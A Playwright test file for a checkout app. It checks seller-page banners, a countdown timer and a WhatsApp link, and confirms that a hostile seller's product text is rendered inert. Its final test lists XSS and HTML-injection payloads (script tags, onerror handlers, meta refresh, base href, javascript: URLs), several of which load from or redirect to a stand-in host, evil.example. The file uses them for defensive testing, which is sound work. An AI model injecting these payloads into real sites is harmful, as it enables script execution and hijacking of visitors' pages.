import { expect, test } from './app.ts'
import {
  DESK,
  LANGUAGES,
  chooseMethod,
  confirmCardPurchase,
  expectAccessible,
  expectNoSidewaysScroll,
  expectThanked,
  fillCard,
  fillPerson,
  openCheckout,
  payButton,
  press,
  walkedOn,
} from './buyer.ts'
import { putOnSale } from './shop.ts'
import { pt } from './words.ts'
import { countShifts } from './shifts.ts'
import { SELLER_PAGE } from '#texts/seller-page.ts'
import { localePath } from '#rules/base/locale.ts'

/** The demo's course with its seller's own page, and the same without it. */
const DRESSED = '/1001?ch_id=501&country=BR'
const PLAIN = '/1001?country=BR'

for (const { locale } of LANGUAGES) {
  const words = SELLER_PAGE[locale]
  test(
    `a seller's pictures, bar and button stand from the first look, in ${locale}`,
    walkedOn(locale),
    async ({ page }) => {
      await page.goto(localePath(locale, DRESSED))
      const shifts = await countShifts(page)
      const timer = page.getByRole('timer', { name: words.timeLeft })
      const form = page.locator('#form')
      await expect(timer).toHaveText(/^1[45]:\d\d$/)
      await expect(form.locator('img[src="/media/faixa-topo.svg"]')).toBeVisible()
      await expect(form.locator('img[src="/media/faixa-base.svg"]')).toBeAttached()
      const button = page.getByRole('link', { name: words.whatsapp })
      const address = new URL((await button.getAttribute('href')) ?? '')
      expect([address.hostname, address.pathname]).toEqual(['wa.me', '/5511955500110'])
      expect(address.searchParams.get('text')).toContain('Curso de Fotografia')
      expect(await shifts()).toBe(0)
      await expectAccessible(page)
      await expectNoSidewaysScroll(page)
      // Neither a reload nor another tab begins the minutes anew.
      const end = () => page.evaluate(() => localStorage.getItem('balcao.scarcity-501'))
      const before = await end()
      expect(before).not.toBe(null)
      await page.reload()
      await expect(timer).toHaveText(/^1[45]:\d\d$/)
      expect(await end()).toBe(before)
      // Afterwards no buyer is informed of an offer that is over.
      await page.evaluate((kept) => {
        const [session] = kept.split(' ')
        localStorage.setItem('balcao.scarcity-501', `${session} ${Date.now() - 1000}`)
      }, before ?? '')
      await page.reload()
      await expect(page.locator('[role=timer]')).toBeHidden()
    },
  )
}

for (const { locale } of LANGUAGES) {
  const words = SELLER_PAGE[locale]
  test(
    `what a seller puts on the page stands from the choice of tickets to the purchase, in ${locale}`,
    walkedOn(locale),
    async ({ page }) => {
      await page.goto(localePath(locale, '/pre-checkout/3001?ch_id=503&country=BR'))
      const shifts = await countShifts(page)
      const whatsapp = page.getByRole('link', { name: words.whatsapp })
      await expect(page.getByRole('timer', { name: words.timeLeft })).toHaveText(/^(30:00|29:\d\d)$/)
      await expect(page.locator('main img[src="/media/amanhecer-topo.svg"]')).toBeVisible()
      await expect(whatsapp).toHaveAttribute('href', /^https:\/\/wa\.me\/5511955500110\?text=/)
      expect(await shifts()).toBe(0)
      await expectAccessible(page)
      await expectNoSidewaysScroll(page)
    },
  )
}

test(
  'who has bought can still write to the seller, and nothing presses any more',
  { tag: DESK },
  async ({ page }) => {
    // The window on leaving, which a slow machine would open for idleness, has been seen.
    await page.addInitScript(() => sessionStorage.setItem('balcao.exit-pop-up-503', '1'))
    await page.goto('/1002?ch_id=503&country=BR&version=v4')
    const { personal } = pt.checkout
    await fillPerson(page, pt, 'maria.amanhecer@example.com')
    await page.getByLabel(personal.confirmEmail.label, { exact: true }).fill('maria.amanhecer@example.com')
    await press(page.getByRole('button', { name: pt.checkout.steps.next }))
    await chooseMethod(page, pt.payment.methods.CREDIT_CARD)
    await fillCard(page, pt)
    await confirmCardPurchase(page, pt, 'Quero fotografar o amanhecer')
    await expectThanked(page, 'pt', pt, 1002)
    await expect(page.getByRole('link', { name: SELLER_PAGE.pt.whatsapp })).toBeVisible()
    await expect(page.getByRole('link', { name: /^Conversar com/ })).toBeVisible()
    await expect(page.locator('img[src="/media/amanhecer-base.svg"]')).toBeAttached()
    await expect(page.getByRole('timer', { name: SELLER_PAGE.pt.timeLeft })).toHaveCount(0)
    await expectAccessible(page)
    await expectNoSidewaysScroll(page)
  },
)

test('a page without them loads nothing of them', walkedOn('pt'), async ({ page }) => {
  const asked: string[] = []
  page.on('request', (request) => asked.push(new URL(request.url()).pathname))
  await page.goto(PLAIN)
  await page.waitForLoadState('networkidle')
  expect(asked.filter((path) => /seller-page|faixa/.test(path))).toEqual([])
  await page.goto(DRESSED)
  await expect(page.getByRole('timer')).toHaveText(/:/)
  expect(asked.filter((path) => path.includes('seller-page'))).toHaveLength(1)
})

/** Words that would run, lead away or load something where a page took them for more than words. */
const HOSTILE = [
  '"><img src=//evil.example/a onerror=hacked=1>',
  '</script><script src=//evil.example/b></script>',
  "'><svg/onload=hacked=1>",
  '</style><style>@import "//evil.example/c"</style>',
  '<iframe srcdoc="<script>parent.hacked=1</script>">',
  '<meta http-equiv=refresh content="0;url=//evil.example/d">',
  '<base href="//evil.example/">',
  'javascript:hacked=1',
]

test(
  'nothing of what a hostile seller writes runs, loads or leads away',
  walkedOn('de'),
  async ({ page }) => {
    const word = (place: number): string => HOSTILE[place % HOSTILE.length] ?? ''
    const product = await putOnSale(
      {
        name: word(0),
        description: HOSTILE.join('\n'),
        access: word(1),
        author: word(2),
        category: word(3),
        images: [{ path: '/media/guia-de-poses.svg', alt: word(4) }],
        warranty_days: 7,
      },
      { name: word(5), legal_name: word(6), legal_address: word(7) },
    )
    const asked: string[] = []
    page.on('request', (request) => asked.push(request.url()))
    page.on('dialog', (dialog) => asked.push(dialog.message()))
    await openCheckout(page, 'pt', product.id)
    await expect(page.getByText(word(0)).filter({ visible: true }).first()).toBeVisible()
    await fillPerson(page, pt)
    await chooseMethod(page, pt.payment.methods.PIX)
    await press(payButton(page, pt.payment.button.pix))
    await expect(page.getByRole('dialog', { name: pt.result.pix.title })).toBeVisible()
    expect(await page.evaluate(() => 'hacked' in window)).toBe(false)
    expect(asked.filter((address) => address.includes('evil.example'))).toEqual([])
    expect(await page.locator('base, meta[http-equiv=refresh], iframe[srcdoc]').count()).toBe(0)
  },
)
